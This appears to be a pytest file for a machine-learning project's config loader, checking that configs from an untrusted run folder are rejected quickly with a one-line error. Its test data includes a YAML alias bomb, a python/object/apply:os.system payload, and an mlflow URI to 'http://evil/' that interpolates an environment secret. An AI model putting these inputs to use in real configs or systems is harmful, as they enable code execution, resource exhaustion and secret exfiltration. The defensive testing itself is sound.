"""A run folder may come from a stranger: its config is plain values, read quickly, or one line (law 8)."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from lightning_diff.cli.drawing.stored import send_nowhere
from lightning_diff.config.compose import compose_config, load_config, stored_config
from lightning_diff.config.convert import plain, yaml_text
from lightning_diff.config.errors import ConfigError
from lightning_diff.config.input.stored import with_sum

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "\n".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


def stored(tmp_path: Path, text: str) -> Path:
    (tmp_path / "config.yaml").write_text(text, "utf-8")
    return tmp_path / "config.yaml"


@pytest.mark.parametrize(
    "text",
    [
        BOMB,
        "data: !!python/object/apply:os.system ['touch /tmp/x']",
        "version: [2]",
        "version: two",
        "seed: " + "[" * 100_000,
        "seed: 1\n# " + "x" * 2**20,
        "- 1",
        "seed: 0x" + "f" * 300,
        "net: {kind: small, blocks: 1000000000, no_such: 1}",
        "\0",
        "",
    ],
)
def test_a_hostile_config_is_one_line_within_a_moment(tmp_path: Path, text: str) -> None:
    begin = time.monotonic()
    with pytest.raises(ConfigError) as e:
        load_config(stored(tmp_path, text))
    assert "\n" not in str(e.value) and time.monotonic() - begin < 60


def test_no_interpolation_is_resolved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    text = "version: 2\ntracking: {also: [{kind: mlflow, uri: 'http://evil/${oc.env:SECRET}'}]}\n"
    assert "hunter2" not in yaml_text(plain(stored_config(stored(tmp_path, text))))


def test_where_things_are_sent_comes_from_the_command_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = "version: 2\ntracking: {wandb: online, also: [csv, {kind: mlflow, uri: 'http://127.0.0.1:1'}]}\n"
    config = load_config(stored(tmp_path, text))
    send_nowhere(config, [])
    assert [t.kind for t in config.tracking.also] == ["csv"] and config.tracking.wandb == "offline"
    assert "nothing is sent to http://127.0.0.1:1" in " ".join(capsys.readouterr().out.split())
    words = ["tracking.wandb=online"]
    config = load_config(stored(tmp_path, text), words)
    send_nowhere(config, words)
    assert config.tracking.wandb == "online"


def test_a_changed_config_is_told_with_what_to_do(tmp_path: Path) -> None:
    config = compose_config(["experiment=base", "name=x"])
    text = with_sum(yaml_text(plain(config)))
    assert stored_config(stored(tmp_path, text)) == config
    with pytest.raises(ConfigError, match=r"not as it was written.*delete its first line"):
        stored_config(stored(tmp_path, text.replace("seed: 0", "seed: 1", 1)))
    with pytest.raises(ConfigError, match="not as it was written"):
        stored_config(stored(tmp_path, text[: text.index("evaluation:")]))
    without = "".join(text.splitlines(keepends=True)[1:])
    assert stored_config(stored(tmp_path, without)) == config
